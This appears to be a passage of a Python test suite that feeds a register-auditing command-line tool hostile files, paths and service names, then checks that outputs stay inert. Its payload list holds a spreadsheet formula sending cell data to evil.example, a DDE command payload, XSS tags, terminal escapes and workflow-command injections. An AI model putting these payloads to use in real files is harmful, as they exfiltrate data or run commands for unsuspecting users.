"""The wider run of issue #11's classes: every command and every kind of input it reads, given
odd bytes, wrong YAML types, odd paths, outputs onto inputs in every format, and hostile names
in every output. Registered into hostile_cases.CASES like the first generators."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import zipfile
from pathlib import Path
from typing import Callable, Iterator

from hostile_cases import HEADER_ROWS, ROOT, VALID, Builder, Case, Run, _inline, copy, generator, rules_folder, write_csv, xlsx

REG = str(VALID / "kz_utf8.csv")
POLICY = str(ROOT / "examples" / "policy.yaml")


def _write(path: Path, data: str | bytes) -> Path:
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


def _en_register(tmp: Path, names: list[str] | None = None, name: str = "en.csv") -> Path:
    names = names or ["Old-age pension", "Primary care clinic visit", "Passport renewal"]
    return write_csv(tmp / name, ["id", "name", "provider"], [[f"S{i}", n, "Agency"] for i, n in enumerate(names, 1)])


def _baseline(tmp: Path) -> Path:
    return _write(tmp / "known.json", '{"version": 1, "findings": [{"check": "human-services-delivered", "subject": "medicines"}]}\n')


def _labels(tmp: Path) -> Path:
    return copy(tmp, ROOT / "tests" / "data" / "labels" / "en-dev.csv", "labels.csv")


# Each kind of file a command reads: how to make a valid one, and the command that reads it.
SIDE_KINDS: dict[str, tuple[Callable[[Path], Path], Callable[[str], list[str]]]] = {
    "register": (lambda t: copy(t, VALID / "kz_utf8.csv", "register.csv"), lambda p: ["parse", p, "--format", "json"]),
    "rule-file": (lambda t: copy(t, ROOT / "rules/kz/nature.yaml", "nature.yaml"), lambda p: ["classify", REG, "--rules", p, "--format", "json"]),
    "rules-folder-file": (lambda t: rules_folder(t) / "domain.yaml", lambda p: ["classify", REG, "--rules", str(Path(p).parent), "--format", "json"]),
    "rules-lint": (lambda t: copy(t, ROOT / "rules/en/domain.yaml", "domain.yaml"), lambda p: ["rules", "lint", p]),
    "rules-list": (lambda t: copy(t, ROOT / "rules/en/domain.yaml", "domain.yaml"), lambda p: ["rules", "list", p, "--format", "json"]),
    "rules-test": (lambda t: copy(t, ROOT / "rules/en/domain.yaml", "domain.yaml"), lambda p: ["rules", "test", p]),
    "profile": (lambda t: copy(t, ROOT / "registers/profiles/generic.yaml", "profile.yaml"), lambda p: ["parse", REG, "--profile", p, "--format", "json"]),
    "budget-yaml": (lambda t: copy(t, ROOT / "rules/budget/kz-2019.yaml", "budget.yaml"), lambda p: ["audit", REG, "--rules", "kz", "--budget", p, "--format", "json"]),
    "budget-csv": (lambda t: copy(t, ROOT / "examples/kz-budget-2019.csv", "budget.csv"), lambda p: ["audit", REG, "--rules", "kz", "--budget", p, "--format", "json"]),
    "catalogue": (lambda t: copy(t, ROOT / "rules/catalogue.yaml", "catalogue.yaml"), lambda p: ["audit", REG, "--rules", "kz", "--catalogue", p, "--format", "json"]),
    "policy": (lambda t: copy(t, ROOT / "examples/policy.yaml", "policy.yaml"), lambda p: ["check", REG, "--rules", "kz", "--policy", p, "--format", "json"]),
    "baseline": (_baseline, lambda p: ["check", REG, "--rules", "kz", "--policy", POLICY, "--baseline", p, "--format", "json"]),
    "labels": (_labels, lambda p: ["rules", "eval", p, "--rules", "en", "--min", "0", "--format", "json"]),
    "against": (lambda t: copy(t, VALID / "kz_utf8.csv", "against.csv"), lambda p: ["check", REG, "--rules", "kz", "--policy", POLICY, "--against", p, "--format", "json"]),
    "diff-new": (lambda t: copy(t, VALID / "kz_utf8.csv", "new.csv"), lambda p: ["diff", REG, p, "--format", "json"]),
    "trend-edition": (lambda t: copy(t, VALID / "kz_utf8.csv", "third.csv"), lambda p: ["trend", REG, str(VALID / "kz_utf8_bom_semicolon.csv"), p, "--format", "json"]),
    "compare-register": (lambda t: copy(t, VALID / "kz_utf8.csv", "other.csv"), lambda p: ["compare", REG, p, "--format", "json"]),
    "explain-register": (lambda t: copy(t, VALID / "kz_utf8.csv", "register.csv"), lambda p: ["explain", p, "Выдача архивных справок", "--format", "json"]),
}
# The codes a valid file of each kind gives (check: 1 when its example policy fails, rules eval: 1 below --min).
_VALID_CODES = {"policy": (0, 1), "baseline": (0, 1), "against": (0, 1), "labels": (0, 1), "rules-lint": (0, 1), "rules-test": (0, 1)}


# --------------------------------------------------------------------------- odd bytes in every input


def _odd_contents(valid: bytes) -> dict[str, tuple[bytes, bool]]:
    """Odd versions of a file: content, and whether it is still a valid file (exit as for the original)."""
    text = valid.decode("utf-8-sig")
    lines = text.splitlines()
    return {
        "empty": (b"", False),
        "whitespace-only": (b"  \n\t\n \r\n", False),
        "bom-only": (b"\xef\xbb\xbf", False),
        "bom": (b"\xef\xbb\xbf" + text.encode("utf-8"), True),
        "crlf": ("\r\n".join(lines).encode("utf-8") + b"\r\n", True),
        "cr-only": ("\r".join(lines).encode("utf-8") + b"\r", True),
        "nul-bytes": (valid[: len(valid) // 2] + b"\0" * 64 + valid[len(valid) // 2:], False),
        "only-nul": (b"\0" * 4096, False),
        "not-utf8": ("\n".join(lines).encode("cp1251", errors="replace") + "\nЁжик, ёлка\n".encode("cp1251"), False),
        "utf16-bom": (text.encode("utf-16"), True),
        "binary": (bytes(range(256)) * 64, False),
        "long-line": (b"x" * (1536 * 1024) + b"\n" + valid, False),
        "huge-number": (b"9" * 100_000 + b"\n", False),
        "deep-brackets": (b"[" * 100_000 + b"]" * 100_000 + b"\n", False),
        "deep-braces": (b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"\n", False),
        "yaml-null": (b"null\n", False),
        "yaml-list": (b"- 1\n- 2\n", False),
        "yaml-scalar": (b"just words\n", False),
        "yaml-list-key": (b"? [a, b]\n: 1\n", False),
        "yaml-huge-int-value": (b"version: " + b"9" * 50_000 + b"\n", False),
        "yaml-big-float": (b"version: 1e999999\n", False),
        "json-null": (b"null", False),
        "json-huge-int": (b'{"version": 1, "findings": [], "x": ' + b"9" * 50_000 + b"}", False),
        "truncated": (valid[: len(valid) // 3], False),
    }


# Every variant is tried on one YAML kind and one JSON kind (the same readers serve the rest);
# every kind gets the variants that reach a different failure (decoding, NULs, number and nesting limits).
_EVERY_VARIANT = {"rule-file", "policy", "baseline", "register"}
_CORE_VARIANTS = {"empty", "nul-bytes", "not-utf8", "huge-number", "yaml-huge-int-value", "deep-brackets"}


@generator("odd_bytes")
def odd_bytes() -> Iterator[tuple[str, Builder]]:
    """Every kind of input file with odd bytes: empty, BOMs, NULs, CR line ends, other encodings,
    long lines, huge numbers, deep nesting, wrong top-level YAML/JSON: a clean sentence or a result."""
    for kind, (make, command) in SIDE_KINDS.items():
        for variant in _odd_contents(b"placeholder\n"):
            if kind not in _EVERY_VARIANT and variant not in _CORE_VARIANTS:
                continue
            def build(tmp: Path, k=kind, v=variant, m=make, c=command) -> Case:
                path = m(tmp)
                content, valid = _odd_contents(path.read_bytes())[v]
                path.write_bytes(content)
                codes = (_VALID_CODES.get(k, (0,)) + (2,)) if valid else (2,) + tuple(x for x in _VALID_CODES.get(k, ()) if x == 1)
                if k in ("register", "against", "diff-new", "trend-edition", "compare-register", "explain-register", "labels") and not valid:
                    codes = (0, 1, 2)  # a register with odd bytes may still hold services
                return Case(c(str(path)), reads=[path], codes=codes, timeout=30)
            yield f"{kind}-{variant}", build


# --------------------------------------------------------------------------- odd paths for every input


@generator("odd_paths")
def odd_paths() -> Iterator[tuple[str, Builder]]:
    """Every input given as a folder, a symlink loop, a dangling link, a FIFO nobody writes
    (refused or read within bounds), or a name with a newline, escape codes or markup."""
    for kind, (make, command) in SIDE_KINDS.items():
        if kind == "rules-folder-file":
            continue

        def folder(tmp: Path, c=command) -> Case:
            target = tmp / "folder.yaml"
            target.mkdir()
            return Case(c(str(target)), timeout=30)

        def loop(tmp: Path, c=command) -> Case:
            a, b = tmp / "a.yaml", tmp / "b.yaml"
            a.symlink_to(b)
            b.symlink_to(a)
            return Case(c(str(a)), timeout=30)

        def dangling(tmp: Path, c=command) -> Case:
            link = tmp / "gone.yaml"
            link.symlink_to(tmp / "nowhere.yaml")
            return Case(c(str(link)), timeout=30)

        def odd_name(tmp: Path, k=kind, m=make, c=command) -> Case:
            path = m(tmp)
            odd = path.with_name("odd\n\x1b[31m[bold]$x$<b>=1\x07" + path.name)
            path.rename(odd)
            return Case(c(str(odd)), reads=[odd], codes=_VALID_CODES.get(k, (0,)), timeout=30, check=_one_line_stderr)

        def odd_missing(tmp: Path, c=command) -> Case:
            return Case(c(str(tmp / "missing\r\n\x1b]0;x\x07[red]name.yaml")), timeout=30, check=_no_raw_controls_stderr)

        yield f"{kind}-folder", folder
        yield f"{kind}-odd-file-name", odd_name
        if kind in ("register", "rule-file", "policy", "labels", "baseline"):
            yield f"{kind}-symlink-loop", loop
            yield f"{kind}-dangling-symlink", dangling
            yield f"{kind}-odd-missing-name", odd_missing

    def folder_with_loop(tmp: Path) -> Case:
        folder = rules_folder(tmp)
        (folder / "loop.yaml").symlink_to(folder / "loop.yaml")
        return Case(["classify", REG, "--rules", str(folder)], timeout=30)

    def folder_with_subfolder(tmp: Path) -> Case:
        folder = rules_folder(tmp)
        (folder / "sub.yaml").mkdir()
        return Case(["classify", REG, "--rules", str(folder)], timeout=30)

    def folder_with_fifo(tmp: Path) -> Case:
        folder = rules_folder(tmp)
        os.mkfifo(folder / "pipe.yaml")
        return Case(["rules", "lint", str(folder)], codes=(1, 2), timeout=30)

    def empty_folder(tmp: Path) -> Case:
        (tmp / "empty").mkdir()
        return Case(["rules", "list", str(tmp / "empty")], timeout=30)

    def empty_string(tmp: Path) -> Case:
        return Case(["parse", ""], timeout=30)

    def stdin_binary(tmp: Path) -> Case:
        return Case(["parse", "-"], stdin=bytes(range(256)) * 4096, codes=(0, 2), timeout=30)

    def stdin_nul(tmp: Path) -> Case:
        return Case(["classify", "-", "--rules", "en"], stdin=b"\0" * (8 << 20), timeout=30)

    def stdin_huge(tmp: Path) -> Case:
        row = b"S1,Issuing a building permit for a plot of land in a rural district\n"
        return Case(["parse", "-", "--format", "json"], stdin=b"id,name\n" + row * ((600 << 20) // len(row)), timeout=60)

    def stdin_empty(tmp: Path) -> Case:
        return Case(["audit", "-", "--rules", "en"], stdin=b"", timeout=30)

    yield "rules-folder-symlink-loop-member", folder_with_loop
    yield "rules-folder-subfolder-member", folder_with_subfolder
    yield "rules-folder-fifo-member", folder_with_fifo
    yield "rules-empty-folder", empty_folder
    yield "register-empty-string", empty_string
    yield "stdin-binary", stdin_binary
    yield "stdin-nul", stdin_nul
    yield "stdin-empty", stdin_empty


def _one_line_stderr(run: Run) -> None:
    for line in run.stderr.splitlines():
        assert line.startswith(("error:", "warning:", " ", "⚠")) or not line.strip(), f"stray stderr line {line!r}"
    _no_raw_controls_stderr(run)


def _no_raw_controls_stderr(run: Run) -> None:
    assert not any(ch in run.stderr for ch in "\x1b\x07\r"), repr(run.stderr[:300])


# --------------------------------------------------------------------------- outputs in every format


# Every command and format that writes a file, and the inputs of that command an output may not replace.
_FORMATS = {
    "parse": (["table", "json", "jsonl", "csv", "xlsx"], lambda reg, t: ["parse", reg]),
    "classify": (["table", "json", "jsonl", "csv", "xlsx"], lambda reg, t: ["classify", reg, "--rules", "en"]),
    "explain": (["table", "json"], lambda reg, t: ["explain", reg, "S1", "--rules", "en"]),
    "audit": (["table", "json", "markdown", "csv", "html", "xlsx"], lambda reg, t: ["audit", reg, "--rules", "en"]),
    "diff": (["table", "json", "markdown", "csv", "html", "xlsx"], lambda reg, t: ["diff", str(_en_register(t, ["Old-age pension"], "old.csv")), reg, "--rules", "en"]),
    "trend": (["table", "json", "markdown", "html"], lambda reg, t: ["trend", str(_en_register(t, ["Old-age pension"], "old.csv")), reg, "--rules", "en"]),
    "compare": (["table", "json", "markdown", "html"], lambda reg, t: ["compare", reg, str(_en_register(t, ["Old-age pension"], "other.csv")), "--rules", "en"]),
    "check": (["table", "json", "junit", "github", "markdown"], lambda reg, t: ["check", reg, "--rules", "en", "--policy", POLICY]),
    "rules-list": (["table", "json"], lambda reg, t: ["rules", "list", str(copy(t, ROOT / "rules/en/domain.yaml", "domain.yaml"))]),
    "rules-eval": (["table", "json", "markdown"], lambda reg, t: ["rules", "eval", str(_hostile_labels(t)), "--rules", "en", "--min", "0"]),
}
_CODES = {"check": (0, 1), "rules-eval": (0, 1)}


@generator("outputs_every_format")
def outputs_every_format() -> Iterator[tuple[str, Builder]]:
    """Every command in every format: --output onto its register through a symlink and a hard
    link is refused, into a missing or read-only place is one sentence, and a fresh path is written."""
    for command, (formats, make) in _FORMATS.items():
        for fmt in formats:
            def onto(tmp: Path, how: str, c=command, f=fmt, m=make) -> Case:
                reg = _en_register(tmp)
                args = m(str(reg), tmp)
                target = reg if c not in ("rules-eval", "rules-list") else Path(args[2])
                link = tmp / f"{how}-out"
                (link.symlink_to(target) if how == "symlink" else os.link(target, link))
                return Case(args + ["--format", f, "--output", str(link)], reads=[target], stderr=("would overwrite the input",), timeout=30)

            def fresh(tmp: Path, c=command, f=fmt, m=make) -> Case:
                reg = _en_register(tmp)
                out = tmp / "out" / f"report.{f}"
                out.parent.mkdir()
                def check(run: Run) -> None:
                    assert out.exists() and out.stat().st_size > 0, "no output written"
                    assert [p.name for p in out.parent.iterdir()] == [out.name], list(out.parent.iterdir())
                return Case(m(str(reg), tmp) + ["--format", f, "--output", str(out)], reads=[reg], codes=_CODES.get(c, (0,)), check=check, timeout=30)

            def read_only(tmp: Path, c=command, f=fmt, m=make) -> Case:
                reg = _en_register(tmp)
                return Case(m(str(reg), tmp) + ["--format", f, "--output", f"/proc/self/register-audit.{f}"], reads=[reg], timeout=30)

            # Links of both kinds on one format a command writes; the check happens before any format is chosen.
            yield f"{command}-{fmt}-onto-register-symlink", (lambda tmp, b=onto: b(tmp, "symlink"))
            if fmt == formats[-1]:
                yield f"{command}-{fmt}-onto-register-hardlink", (lambda tmp, b=onto: b(tmp, "hardlink"))
                yield f"{command}-{fmt}-into-proc", read_only
            yield f"{command}-{fmt}-fresh-file", fresh

    def output_is_folder(tmp: Path) -> Case:
        return Case(["parse", REG, "--format", "json", "--output", str(tmp)], timeout=30)

    def output_in_sys(tmp: Path) -> Case:
        return Case(["parse", REG, "--format", "json", "--output", "/sys/kernel/register-audit.json"], timeout=30)

    def output_newline_name(tmp: Path) -> Case:
        return Case(["parse", REG, "--format", "json", "--output", str(tmp / "no\nsuch" / "out.json")], timeout=30, check=_no_raw_controls_stderr)

    def output_dangling_link(tmp: Path) -> Case:
        link = tmp / "dangling.json"
        link.symlink_to(tmp / "target.json")
        return Case(["parse", REG, "--format", "json", "--output", str(link)], codes=(0, 2), timeout=30)

    def output_empty(tmp: Path) -> Case:
        return Case(["parse", REG, "--format", "json", "--output", ""], timeout=30)

    def write_baseline_folder(tmp: Path) -> Case:
        return Case(["check", REG, "--rules", "kz", "--policy", POLICY, "--write-baseline", str(tmp)], timeout=30)

    def write_baseline_onto_against(tmp: Path) -> Case:
        against = copy(tmp, VALID / "kz_utf8.csv", "against.csv")
        return Case(["check", REG, "--rules", "kz", "--policy", POLICY, "--against", str(against), "--write-baseline", str(against)],
                    reads=[against], stderr=("would overwrite the input",), timeout=30)

    def output_onto_against(tmp: Path) -> Case:
        against = copy(tmp, VALID / "kz_utf8.csv", "against.csv")
        return Case(["check", REG, "--rules", "kz", "--policy", POLICY, "--against", str(against), "--format", "json", "--output", str(against)],
                    reads=[against], stderr=("would overwrite the input",), timeout=30)

    def output_onto_trend_edition(tmp: Path) -> Case:
        third = copy(tmp, VALID / "kz_utf8.csv", "third.csv")
        return Case(["trend", REG, str(VALID / "kz_utf8_bom_semicolon.csv"), str(third), "--format", "json", "--output", str(third)],
                    reads=[third], stderr=("would overwrite the input",), timeout=30)

    def output_onto_labels(tmp: Path) -> Case:
        labels = _labels(tmp)
        return Case(["rules", "eval", str(labels), "--rules", "en", "--format", "json", "--output", str(labels)],
                    reads=[labels], stderr=("would overwrite the input",), timeout=30)

    def output_onto_baseline_write(tmp: Path) -> Case:
        base = _baseline(tmp)
        return Case(["check", REG, "--rules", "kz", "--policy", POLICY, "--baseline", str(base), "--write-baseline", str(tmp / "new.json"),
                     "--output", str(tmp / "new.json")], codes=(0, 1, 2), reads=[base], timeout=30)

    yield "output-is-a-folder", output_is_folder
    yield "output-in-sys", output_in_sys
    yield "output-newline-in-missing-folder", output_newline_name
    yield "output-dangling-symlink", output_dangling_link
    yield "output-empty-path", output_empty
    yield "write-baseline-folder", write_baseline_folder
    yield "write-baseline-onto-against", write_baseline_onto_against
    yield "output-onto-against", output_onto_against
    yield "output-onto-trend-edition", output_onto_trend_edition
    yield "output-onto-labels", output_onto_labels
    yield "output-same-as-write-baseline", output_onto_baseline_write


# --------------------------------------------------------------------------- hostile names in every output

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click") pension',
    "+SUM(1,2) primary care clinic visit",
    "-2+3 old-age pension",
    "@cmd passport renewal",
    "Child benefit <script>alert(1)</script> <img src=x onerror=alert(2)>",
    "Hospital care $\\frac{a}{$ {\\bad $x^2$",
    "Unemployment benefit [bold]x[/bold] [/] [link=http://x]y[/link]",
    "School place \x1b]0;owned\x07\x1b[2J\x1b[31m red\x01\x02\x0b\x0c",
    "Drinking water\r\n::error file=x::injected\n::set-output name=x::y %0A",
    "Kindergarten place ]]> <![CDATA[ &amp; &#0; \ufffe",
    "Medicines \u202e\u2066 bidi \u200b zero width",
]


def _hostile_register(tmp: Path) -> Path:
    path = tmp / "hostile [b]$x$<i>.csv"
    return write_csv(path, ["id", "name", "provider"], [[f"=S{i}", n, "=cmd|' /C calc'!A0"] for i, n in enumerate(HOSTILE_NAMES, 1)])


def _hostile_labels(tmp: Path) -> Path:
    path = tmp / "labels.csv"
    header = ["id", "name", "language", "nature", "completeness", "partial_kind", "domain", "human_service"]
    rows = [[f"=L{i}", n, "en", "transactional", "complete", "", "04", "false"] for i, n in enumerate(HOSTILE_NAMES, 1)]
    return write_csv(path, header, rows)


def _check_format(fmt: str, out: Path) -> Callable[[Run], None]:
    def check(run: Run) -> None:
        data = out.read_bytes()
        if fmt == "csv":
            _no_formula_cells(data.decode("utf-8"))
        elif fmt == "xlsx":
            _xlsx_all_text(out)
        elif fmt == "markdown":
            text = data.decode("utf-8")
            assert "<script" not in text and "<img" not in text, "raw HTML in Markdown"
        elif fmt == "html":
            text = data.decode("utf-8")
            assert "<script>alert" not in text and "<img src=x" not in text, "raw HTML in the HTML report"
        elif fmt == "junit":
            import xml.dom.minidom

            xml.dom.minidom.parseString(data)
        elif fmt == "github":
            for line in data.decode("utf-8").splitlines():
                assert not line.startswith(("::set-output", "::error file=x")), f"injected workflow command: {line!r}"
        elif fmt == "table":
            assert not any(ch in data.decode("utf-8") for ch in "\x1b\x07"), "terminal control codes in the table"
        elif fmt in ("json", "jsonl"):
            for line in data.decode("utf-8").splitlines() if fmt == "jsonl" else [data.decode("utf-8")]:
                json.loads(line)
    return check


def _no_formula_cells(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            bare = cell.lstrip("-+")
            number = bool(re.fullmatch(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?%?", cell))
            assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula-like cell {cell!r}"
            del bare


def _xlsx_all_text(path: Path) -> None:
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name), f"a formula in {name}"
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"


@generator("names_every_output")
def names_every_output() -> Iterator[tuple[str, Builder]]:
    """Names, ids, providers and file names holding formulas, HTML, TeX, rich markup, terminal
    and workflow-command codes, through every command and format: plain text in every output."""
    for command, (formats, make) in _FORMATS.items():
        for fmt in formats:
            def build(tmp: Path, c=command, f=fmt, m=make) -> Case:
                reg = _hostile_register(tmp)
                out = tmp / f"out.{f}"
                args = m(str(reg), tmp)
                if c in ("explain",):
                    args[2] = "=S1"
                return Case(args + ["--format", f, "--output", str(out)], reads=[reg], codes=_CODES.get(c, (0,)), check=_check_format(f, out), timeout=30)

            def stdout(tmp: Path, c=command, f=fmt, m=make) -> Case:
                reg = _hostile_register(tmp)
                args = m(str(reg), tmp)
                if c in ("explain",):
                    args[2] = "=S1"
                def check(run: Run) -> None:
                    if f == "table":
                        assert not any(ch in run.stdout.decode("utf-8") for ch in "\x1b\x07"), "terminal control codes in the table"
                    assert not any(ch in run.stderr for ch in "\x1b\x07"), "terminal control codes on stderr"
                return Case(args + ["--format", f], reads=[reg], codes=_CODES.get(c, (0,)), check=check, timeout=30)

            yield f"{command}-{fmt}", build
            if fmt in ("table", "github"):
                yield f"{command}-{fmt}-stdout", stdout

    def hostile_side_titles(tmp: Path) -> Case:
        catalogue = tmp / "catalogue.yaml"
        text = (ROOT / "rules/catalogue.yaml").read_text(encoding="utf-8")
        text = text.replace("title: Primary health care", 'title: "Primary $\\\\frac{a}{$ <script>x</script> =1 \\e[31m"', 1)
        catalogue.write_text(text, encoding="utf-8")
        budget = tmp / "budget.csv"
        budget.write_text((ROOT / "examples/kz-budget-2019.csv").read_text(encoding="utf-8").replace("education", "$\\\\bad{$ <script>x</script>"), encoding="utf-8")
        out = tmp / "report.html"
        return Case(["audit", REG, "--rules", "kz", "--catalogue", str(catalogue), "--budget", str(budget), "--format", "html", "--output", str(out)],
                    reads=[catalogue, budget], codes=(0,), check=_check_format("html", out), timeout=60)

    def hostile_side_markdown(tmp: Path) -> Case:
        catalogue = tmp / "catalogue.yaml"
        text = (ROOT / "rules/catalogue.yaml").read_text(encoding="utf-8")
        catalogue.write_text(text.replace("title: Primary health care", 'title: "Primary <script>x</script> <img src=x onerror=y>"', 1), encoding="utf-8")
        out = tmp / "report.md"
        return Case(["audit", REG, "--rules", "kz", "--catalogue", str(catalogue), "--format", "markdown", "--output", str(out)],
                    reads=[catalogue], codes=(0,), check=_check_format("markdown", out), timeout=60)

    def hostile_policy_messages(tmp: Path) -> Case:
        policy = tmp / "policy.yaml"
        policy.write_text('version: 1\nchecks:\n  - id: unclassified\n    measure: unclassified_share\n    max: 0.0\n'
                          '    message: "<img src=x onerror=y> \\e]0;x\\a =1 \\n::error::injected %0A"\n', encoding="utf-8")
        outs = {f: tmp / f"out.{f}" for f in ("junit", "github", "markdown", "table")}
        def check(run: Run) -> None:
            pass
        return Case(["check", REG, "--rules", "kz", "--policy", str(policy), "--format", "junit", "--output", str(outs["junit"])],
                    reads=[policy], codes=(0, 1), check=_check_format("junit", outs["junit"]), timeout=60)

    def hostile_policy_github(tmp: Path) -> Case:
        policy = tmp / "policy.yaml"
        policy.write_text('version: 1\nchecks:\n  - id: unclassified\n    measure: unclassified_share\n    max: 0.0\n'
                          '    message: "bad \\n::set-output name=x::y \\r\\n::error file=x::injected"\n', encoding="utf-8")
        out = tmp / "out.github"
        return Case(["check", REG, "--rules", "kz", "--policy", str(policy), "--format", "github", "--output", str(out)],
                    reads=[policy], codes=(0, 1), check=_check_format("github", out), timeout=60)

    def hostile_policy_markdown(tmp: Path) -> Case:
        policy = tmp / "policy.yaml"
        policy.write_text('version: 1\nchecks:\n  - id: unclassified\n    measure: unclassified_share\n    max: 0.0\n'
                          '    message: "<script>alert(1)</script> <img src=x onerror=y>"\n', encoding="utf-8")
        out = tmp / "out.md"
        return Case(["check", REG, "--rules", "kz", "--policy", str(policy), "--format", "markdown", "--output", str(out)],
                    reads=[policy], codes=(0, 1), check=_check_format("markdown", out), timeout=60)

    def hostile_rule_descriptions(tmp: Path) -> Case:
        path = tmp / "nature.yaml"
        text = (ROOT / "rules/en/nature.yaml").read_text(encoding="utf-8")
        path.write_text(re.sub(r"^  - id: (\S+)", r'  - id: "\1"', text, count=0, flags=re.M).replace("description: >-", 'description: "\\e[2J =1 <script>x</script> [bold]x[/] $\\\\x$" #', 1), encoding="utf-8")
        return Case(["rules", "list", str(path)], reads=[path], codes=(0, 2), check=_check_format_stdout_table, timeout=30)

    yield "catalogue-and-budget-titles-html", hostile_side_titles
    yield "catalogue-titles-markdown", hostile_side_markdown
    yield "policy-texts-junit", hostile_policy_messages
    yield "policy-texts-github", hostile_policy_github
    yield "policy-texts-markdown", hostile_policy_markdown
    yield "rule-descriptions-table", hostile_rule_descriptions


def _check_format_stdout_table(run: Run) -> None:
    assert not any(ch in run.stdout.decode("utf-8") for ch in "\x1b\x07"), "terminal control codes in the table"


# --------------------------------------------------------------------------- bombs within the bounds


@generator("bounds")
def bounds() -> Iterator[tuple[str, Builder]]:
    """Files just inside (or far past) each documented bound: they finish in time and memory, or are refused."""

    def wide_csv(tmp: Path) -> Case:
        path = tmp / "wide.csv"
        header = ",".join(["id", "name"] + [f"c{i}" for i in range(3000)]) + "\n"
        row = ",".join(["S", "Issuing a permit"] + ["x"] * 3000) + "\n"
        path.write_text(header + row * 20_000, encoding="utf-8")
        return Case(["audit", str(path), "--rules", "en", "--format", "json"], reads=[path], codes=(0, 2), timeout=60)

    def many_columns_csv(tmp: Path) -> Case:
        path = tmp / "columns.csv"
        path.write_text(",".join(["id", "name"] + [f"c{i}" for i in range(200_000)]) + "\n" + "S1,Pension\n", encoding="utf-8")
        return Case(["parse", str(path), "--format", "json"], reads=[path], codes=(0, 2), timeout=60)

    def long_field_csv(tmp: Path) -> Case:
        path = tmp / "long.csv"
        path.write_text("id,name\nS1,\"" + "Pension " * 2_000_000 + "\"\nS2,Care\n", encoding="utf-8")
        return Case(["classify", str(path), "--rules", "en", "--format", "json"], reads=[path], codes=(0, 2), timeout=60)

    def long_name_csv(tmp: Path) -> Case:
        path = tmp / "long.csv"
        path.write_text("id,name\n" + "".join(f"S{i}," + ("pension care school " * 5000) + f"{i}\n" for i in range(50)), encoding="utf-8")
        return Case(["audit", str(path), "--rules", "en", "--format", "json"], reads=[path], codes=(0, 2), timeout=60)

    def big_json(tmp: Path) -> Case:
        path = tmp / "big.json"
        with path.open("w", encoding="utf-8") as handle:
            handle.write("[")
            handle.write(",".join(["{}"] * 30_000_000))
            handle.write("]")
        return Case(["parse", str(path)], reads=[path], codes=(2,), timeout=60)

    def big_json_numbers(tmp: Path) -> Case:
        path = tmp / "nums.json"
        with path.open("w", encoding="utf-8") as handle:
            handle.write('{"services": [' + ",".join(["0"] * 50_000_000) + "]}")
        return Case(["parse", str(path)], reads=[path], codes=(2,), timeout=60)

    def big_html(tmp: Path) -> Case:
        path = tmp / "big.html"
        with path.open("w", encoding="utf-8") as handle:
            handle.write("<html><body><table><tr><th>id</th><th>name</th></tr>")
            handle.write("<tr><td>1</td><td>Pension</td></tr>" * 10)
            handle.write("</table>" + "<b>" * 5_000_000 + "</body></html>")
        return Case(["parse", str(path)], reads=[path], codes=(0, 2), timeout=60)

    def deep_html(tmp: Path) -> Case:
        path = tmp / "deep.html"
        path.write_text("<html><body>" + "<div>" * 200_000 + "<table><tr><th>id</th><th>name</th></tr><tr><td>1</td><td>Pension</td></tr></table>"
                        + "</div>" * 200_000 + "</body></html>", encoding="utf-8")
        return Case(["parse", str(path)], reads=[path], codes=(0, 2), timeout=60)

    def max_html_table(tmp: Path) -> Case:
        path = tmp / "max.html"
        row = "<tr><td>1</td><td>Pension</td>" + "<td>x</td>" * 998 + "</tr>"
        path.write_text("<html><body><table><tr><th>id</th><th>name</th>" + "<th>c</th>" * 998 + "</tr>" + row * 4999 + "</table></body></html>", encoding="utf-8")
        return Case(["parse", str(path), "--format", "json"], reads=[path], codes=(0, 2), timeout=60)

    def max_xlsx_sheet(tmp: Path) -> Case:
        cells = "".join(_inline(f"{_letters(c)}{{r}}", "x") for c in range(3, 1001))
        rows = "".join(f'<row r="{r}">{_inline(f"A{r}", f"S{r}")}{_inline(f"B{r}", "Pension")}{cells.format(r=r)}</row>' for r in range(3, 5003))
        return Case(["parse", str(xlsx(tmp / "max.xlsx", f"<sheetData>{HEADER_ROWS}{rows}</sheetData>")), "--format", "json"], codes=(0, 2), timeout=60)

    def xlsx_many_rows(tmp: Path) -> Case:
        rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="s"><v>1</v></c></row>' for r in range(3, 1_000_000))
        return Case(["parse", str(xlsx(tmp / "rows.xlsx", f"<sheetData>{HEADER_ROWS}{rows}</sheetData>"))], codes=(0, 2), timeout=60)

    def xlsx_styles_bomb(tmp: Path) -> Case:
        path = xlsx(tmp / "styles.xlsx", f"<sheetData>{HEADER_ROWS}</sheetData>")
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package, package.open("xl/styles.xml", "w", force_zip64=True) as part:
            part.write(b'<?xml version="1.0"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts>')
            block = b'<numFmt numFmtId="200" formatCode="0"/>' * 10000
            for _ in range(200 * 1024 * 1024 // len(block)):
                part.write(block)
            part.write(b"</numFmts></styleSheet>")
        return Case(["parse", str(path)], codes=(0, 2), timeout=60)

    def docx_element_bomb(tmp: Path) -> Case:
        from hostile_cases import docx_with_spans

        path = docx_with_spans(tmp / "elements.docx", span=1, cells=2)
        with zipfile.ZipFile(path) as package:
            parts = {name: package.read(name) for name in package.namelist()}
        xml = parts["word/document.xml"]
        filler = b"<w:p/>" * 40_000_000
        parts["word/document.xml"] = xml.replace(b"<w:body>", b"<w:body>" + filler, 1)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
            for name, data in parts.items():
                package.writestr(name, data)
        return Case(["parse", str(path)], codes=(0, 2), timeout=60)

    def docx_deep(tmp: Path) -> Case:
        from hostile_cases import docx_with_spans

